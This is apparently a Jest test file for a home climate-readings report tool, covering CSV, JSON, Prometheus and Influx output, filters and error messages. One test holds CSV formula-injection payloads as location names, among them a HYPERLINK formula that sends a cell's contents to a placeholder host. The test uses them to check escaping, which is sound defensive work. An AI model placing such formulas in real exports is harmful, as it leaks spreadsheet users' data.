/** What each format says of the same day, held whole; and read again by parsers we did not write. */
import { parse as parseCsv } from 'csv-parse/sync';
import parsePrometheus from 'parse-prometheus-text-format';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { readingsDatabase } from '../../../lib/store/readings-database';
import { cycleOf, hueReading } from '../../support/cycles';
import { homeWithHistory, reportHome, store } from '../../support/report-home';
import { silentLogger } from '../../support/storage';

/** The snapshots show local times. */
const LOCAL = Intl.DateTimeFormat().resolvedOptions().timeZone;
const inUtc = new Date(0).getTimezoneOffset() === 0 && new Date(1.78e12).getTimezoneOffset() === 0;
const testLocal = inUtc ? test : test.skip;
const note = inUtc ? '' : ` (skipped: local time is ${LOCAL}, not UTC)`;

testLocal(`table: trouble first, then each room${note}`, async () => {
  const { report } = await homeWithHistory();
  expect((await report()).text).toMatchSnapshot();
});

testLocal(`table of a past time, in Fahrenheit, of one quantity${note}`, async () => {
  const { report } = await homeWithHistory();
  const flags = { since: '2026-01-02T08:00', until: '2026-01-02T10:00', units: 'us', quantity: 'temperature' };
  expect((await report(flags)).text).toMatchSnapshot();
});

testLocal(`gaps: expected against stored, and why${note}`, async () => {
  const { report } = await homeWithHistory();
  expect((await report({ since: '2d' }, { view: 'gaps' })).text).toMatchSnapshot();
});

testLocal(`cycles${note}`, async () => {
  const { report } = await homeWithHistory();
  expect((await report({}, { view: 'cycles' })).text).toMatchSnapshot();
});

test('gaps and cycles as rows and as JSON', async () => {
  const { report } = await homeWithHistory();
  const gaps = JSON.parse((await report({ format: 'json' }, { view: 'gaps' })).text) as Record<string, unknown[]>;
  expect(gaps['gaps']).toEqual([
    expect.objectContaining({ reason: 'no_trace', cycles: 6, from: '2026-01-02T03:00:00.000Z' }),
    expect.objectContaining({
      reason: 'timeout',
      cycles: 2,
      to: '2026-01-02T07:10:00.000Z',
      error: 'no answer in 10 s',
    }),
  ]);
  const rows = parseCsv((await report({ format: 'csv' }, { view: 'gaps' })).text, { columns: true }) as unknown as {
    collector: string;
    expected: string;
    stored: string;
    reasons: string;
  }[];
  const sum = (column: 'expected' | 'stored') =>
    rows.filter(({ collector }) => collector === 'hue').reduce((total, row) => total + Number(row[column]), 0);
  expect([sum('expected'), sum('stored')]).toEqual([313, 305]);
  const cycles = (await report({ format: 'ndjson', since: '10m' }, { view: 'cycles' })).text.trim().split('\n');
  expect(cycles.map((line) => (JSON.parse(line) as { collector: string }).collector)).toEqual([
    'hue',
    'amazon_aqm',
    'hue',
    'amazon_aqm',
  ]);
});

test('csv', async () => {
  const { report } = await homeWithHistory();
  const { text } = await report({ format: 'csv', since: '2026-01-02T11:55Z' });
  expect(text).toMatchSnapshot();
  const rows = parseCsv(text, { columns: true }) as unknown as Record<string, string>[];
  expect(rows).toHaveLength(8);
  expect(rows[3]).toMatchObject({ device_id: 'alexa:G1', humidity_percent: '45', co_ppm: '0', light_lux: '' });
  expect(rows.map((row) => row['location'])).toContain('Küche "Süd", oben');
});

test('csv for a spreadsheet: no cell begins a formula; without the flag, texts are as they are', async () => {
  const { report, config } = reportHome();
  const names = ['=HYPERLINK("http://x/?"&A1)', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\uff1d1', 'Hall', "Bob's"];
  const readings = names.map((location, index) =>
    hueReading(`hue:${index}`, { location, temperature_celsius: -4.5, measured_at: '2026-01-02T11:59:00.000Z' }),
  );
  await store(config, [cycleOf('2026-01-02T11:59:00.000Z', 'hue', readings)]);
  const rows = async (switches: string[]) => {
    const { text } = await report({ format: 'csv' }, { switches });
    return parseCsv(text, { columns: true }) as unknown as Record<string, string>[];
  };
  const locations = (await rows(['spreadsheet'])).map(({ location }) => location);
  expect(locations).toEqual(names.map((name, index) => (index < 7 ? `'${name}` : name)));
  const plain = await rows([]);
  expect(plain.map(({ location }) => location)).toEqual(names);
  expect(plain[0]?.['temperature_celsius']).toBe('-4.5');
  await expect(report({ format: 'json' }, { switches: ['spreadsheet'] })).rejects.toMatchObject({ type: 'usage' });
});

test('csv, ndjson and influx give every reading of all time, in the order of time', async () => {
  const { report } = await homeWithHistory();
  const csv = parseCsv((await report({ format: 'csv' })).text, { columns: true }) as unknown as Record<
    string,
    string
  >[];
  const ndjson = (await report({ format: 'ndjson' })).text.trim().split('\n');
  const influx = (await report({ format: 'influx' })).text.trim().split('\n');
  expect(csv).toHaveLength(305 * 3 + 313);
  expect(ndjson).toHaveLength(csv.length);
  expect(influx).toHaveLength(csv.length);
  const times = csv.map((row) => row['timestamp'] ?? '');
  expect(times).toEqual([...times].sort());
});

test('prometheus: fresh values only, the time of each measurement beside them', async () => {
  const { report } = await homeWithHistory();
  const { text } = await report({ format: 'prometheus' });
  expect(text).toMatchSnapshot();
  const families = parsePrometheus(text);
  const of = (name: string) => families.find((family) => family.name === name)?.metrics ?? [];
  expect(families.every(({ type }) => type === 'GAUGE')).toBe(true);
  const kitchen = of('climate_temperature_celsius').find(({ labels }) => labels?.['device_id'] === 'hue:2');
  expect(kitchen?.labels?.['location']).toBe('Küche "Süd", oben');
  expect(of('climate_temperature_celsius').map(({ labels }) => labels?.['device_id'])).not.toContain('hue:3');
  expect(of('climate_measured_timestamp_seconds')).toHaveLength(4);
  expect(of('climate_last_success_timestamp_seconds')).toHaveLength(2);
});

test('influx', async () => {
  const { report } = await homeWithHistory();
  expect((await report({ format: 'influx', since: '2026-01-02T11:55Z' })).text).toMatchSnapshot();
});

test('filters choose devices, rooms and quantities', async () => {
  const { report } = await homeWithHistory();
  const rows = async (flags: Record<string, string>) => {
    const { text } = await report({ format: 'csv', since: '24h', ...flags });
    return parseCsv(text, { columns: true }) as unknown as Record<string, string>[];
  };
  expect(new Set((await rows({ device: 'hue:1,hue:3' })).map((row) => row['device_id']))).toEqual(
    new Set(['hue:1', 'hue:3']),
  );
  // The room's old name finds what was stored under it.
  expect((await rows({ location: 'Flur' })).at(-1)?.['timestamp']).toBe('2026-01-02T05:55:00.000Z');
  expect(await rows({ location: 'fLUR' })).toEqual(await rows({ location: 'Flur' }));
  const humid = await rows({ quantity: 'humidity' });
  expect(Object.keys(humid[0] ?? {})).toEqual([
    'timestamp',
    'measured_at',
    'device_id',
    'device_type',
    'location',
    'humidity_percent',
    'is_anomalous',
  ]);
  expect(new Set(humid.map((row) => row['device_id']))).toEqual(new Set(['alexa:G1']));
  const fahrenheit = await rows({ quantity: 'temperature', units: 'us', device: 'alexa:G1' });
  expect(fahrenheit[0]?.['temperature_fahrenheit']).toBe('70.7');
});

test.each([
  [{ device: 'hue:9' }, /--device "hue:9" is not in any reading/, /hue:1, hue:2/],
  [{ location: 'Halle' }, /--location "Halle" is not in any reading \(did you mean Hall\?\)/, /Hall/],
  [{ quantity: 'warmth' }, /--quantity "warmth"/, /temperature, humidity/],
  [{ since: 'gestern' }, /--since is "gestern"/, /7d/],
  [{ since: '2026-02-30' }, /not a time/, /2026-11-01/],
  [{ since: '1h', until: '2h' }, /--since is not before/, /earlier/],
  [{ format: 'influx', units: 'us' }, /always metric/, /--units/],
  [{ format: 'prometheus', since: '7d' }, /only the latest values/, /--since/],
])('%j is refused with what there is', async (flags, message, remediation) => {
  const { report } = await homeWithHistory();
  await expect(report(flags as unknown as Record<string, string>)).rejects.toMatchObject({
    type: 'usage',
    message: expect.stringMatching(message) as string,
    remediation: expect.stringMatching(remediation) as string,
  });
});

test('no database, an empty file and a database without rows: a sentence, or a table that says so', async () => {
  const { report, config } = reportHome();
  expect((await report()).sentence).toMatch(/is not there yet: run a collector first/);
  mkdirSync(config.storage.data_directory);
  writeFileSync(`${config.storage.data_directory}/readings.db`, '');
  expect((await report({ format: 'html' })).sentence).toMatch(/is empty/);
  rmSync(`${config.storage.data_directory}/readings.db`);
  const database = readingsDatabase(config.storage, silentLogger);
  await database.open();
  await database.close();
  expect((await report()).text).toMatch(/hue: no cycle yet/);
  expect((await report()).text).toMatch(/No readings in this time/);
  expect((await report({}, { view: 'gaps' })).text).toMatch(/No cycle was due/);
  expect((await report({ format: 'html' })).text).toMatch(/<\/html>/);
  expect((await report({ format: 'csv' })).text.split('\n')).toHaveLength(2);
});
